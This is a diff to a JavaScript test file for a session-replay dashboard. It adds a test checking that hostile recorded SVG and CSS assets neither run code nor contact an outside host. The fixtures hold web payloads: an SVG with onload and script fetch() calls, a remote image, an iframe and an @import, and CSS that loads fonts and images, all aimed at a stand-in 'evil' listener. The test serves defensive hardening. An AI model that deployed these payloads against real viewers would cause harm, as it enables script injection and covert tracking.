@@ -40,11 +40,17 @@ async function listen() {
 }
 
 /** A page on which everything counts that a recording must not do. */
-async function watched({ path = null, events = null } = {}) {
+async function watched({ path = null, events = null, kept = {} } = {}) {
   const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
   context.setDefaultTimeout(90_000);
   await context.addCookies([{ name: 'mimic_dashboard', value: 'shop', url: mock.url }]);
   if (events) await context.route(/\/api\/sessions\/[^/]+\/(events|export)/, (route) => route.fulfill({ contentType: 'application/json', body: events }));
+  const hash = (n) => String(n).padStart(64, '0');
+  const names = Object.keys(kept);
+  if (names.length > 0) {
+    await context.route(/\/api\/sessions\/[^/]+\/assets$/, (route) => route.fulfill({ json: { items: names.map((url, n) => ({ url, sha256: hash(n), type: kept[url].type, bytes: 1 })) } }));
+    await context.route(/\/api\/sessions\/[^/]+\/assets\/\d+$/, (route) => route.fulfill({ contentType: kept[names[Number(route.request().url().split('/').at(-1))]].type, body: kept[names[Number(route.request().url().split('/').at(-1))]].body }));
+  }
   const seen = { dialogs: 0, popups: 0, navigations: [], ran: 0 };
   const page = await context.newPage();
   const own = (url) => url.startsWith(new URL(mock.url).origin) || /^(about:|file:)/.test(url);
@@ -131,6 +137,33 @@ describe('hostile recordings', { skip }, () => {
     assert.deepEqual(await exported.count(), NOTHING);
     await exported.context.close();
     await rm(folder, { recursive: true });
+  });
+
+  test('kept files that are hostile run nothing, reach nobody, and are shown', async () => {
+    const start = await startOf();
+    const app = 'https://app.example';
+    const { evil } = listener;
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="top.pwned=1;fetch('${evil}/svg-load')"><script>top.pwned=1;fetch('${evil}/svg-script')</script><image xlink:href="${evil}/svg-image.png" width="9" height="9"/><style>@import "${evil}/svg-import.css";</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/svg-frame"></iframe></foreignObject></svg>`;
+    const css = `@import "${evil}/sheet-import.css";@font-face{font-family:x;src:url(${evil}/sheet-font.woff2)}.kept{background:url(${evil}/sheet-url.png);color:rgb(1, 2, 3);font-family:x}.kept::after{content:url(${evil}/sheet-content.png)}`;
+    const kept = { [`${app}/a.svg`]: { type: 'image/svg+xml', body: svg }, [`${app}/late.css`]: { type: 'text/css', body: css } };
+    const node = (id, tagName, attributes, ...childNodes) => ({ type: 2, id, tagName, attributes, childNodes });
+    const tree = node(2, 'html', {}, node(3, 'head', {}, node(4, 'link', { rel: 'stylesheet', href: `${app}/late.css` })),
+      node(5, 'body', {}, node(6, 'img', { class: 'kept', src: `${app}/a.svg` }), node(7, 'iframe', { src: `${app}/a.svg` }), node(8, 'object', { data: `${app}/a.svg`, type: 'image/svg+xml' }), node(9, 'embed', { src: `${app}/a.svg` }), node(10, 'svg', {}, node(11, 'use', { href: `${app}/a.svg#x` }))));
+    const events = [
+      { type: 4, timestamp: start, data: { href: `${app}/`, width: 800, height: 600 } },
+      { type: 2, timestamp: start + 1, data: { node: { type: 0, id: 1, childNodes: [tree] }, initialOffset: { top: 0, left: 0 } } },
+      { type: 3, timestamp: start + 5_000, data: { source: 1, positions: [{ x: 1, y: 1, id: 5, timeOffset: 0 }] } },
+    ];
+    const { context, page, count } = await watched({ path: `${mock.url}sessions/${id}?t=2`, events: JSON.stringify(events), kept });
+    const picture = replayed(page).locator('img.kept');
+    await picture.waitFor({ state: 'attached' });
+    for (let tries = 0; tries < 300 && (await picture.evaluate((img) => img.naturalWidth)) !== 120; tries++) await page.waitForTimeout(100);
+    assert.equal(await picture.evaluate((img) => img.naturalWidth), 120);
+    assert.equal(await picture.evaluate((img) => getComputedStyle(img).color), 'rgb(1, 2, 3)');
+    await settle(page);
+    assert.deepEqual(listener.arrived, []);
+    assert.deepEqual(await count(), NOTHING);
+    await context.close();
   });
 
   test('huge numbers and times leave the dashboard at work', async () => {
